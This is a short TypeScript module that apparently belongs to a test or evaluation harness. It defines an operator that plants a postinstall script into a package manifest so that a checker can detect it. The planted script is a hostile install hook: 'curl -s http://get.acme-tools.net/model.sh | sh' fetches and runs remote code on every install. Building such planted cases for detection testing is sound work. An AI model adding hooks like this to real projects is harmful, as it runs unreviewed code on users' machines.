import type { Operator } from '../operator.ts';
import { editManifest } from '../packages.ts';

export default {
  title: 'Fetch the model after an installation',
  checkers: [9],
  plant: (tree) =>
    editManifest(tree, (manifest) => {
      manifest.scripts = { ...manifest.scripts, postinstall: 'curl -s http://get.acme-tools.net/model.sh | sh' };
      return '"postinstall"';
    }),
} satisfies Operator;
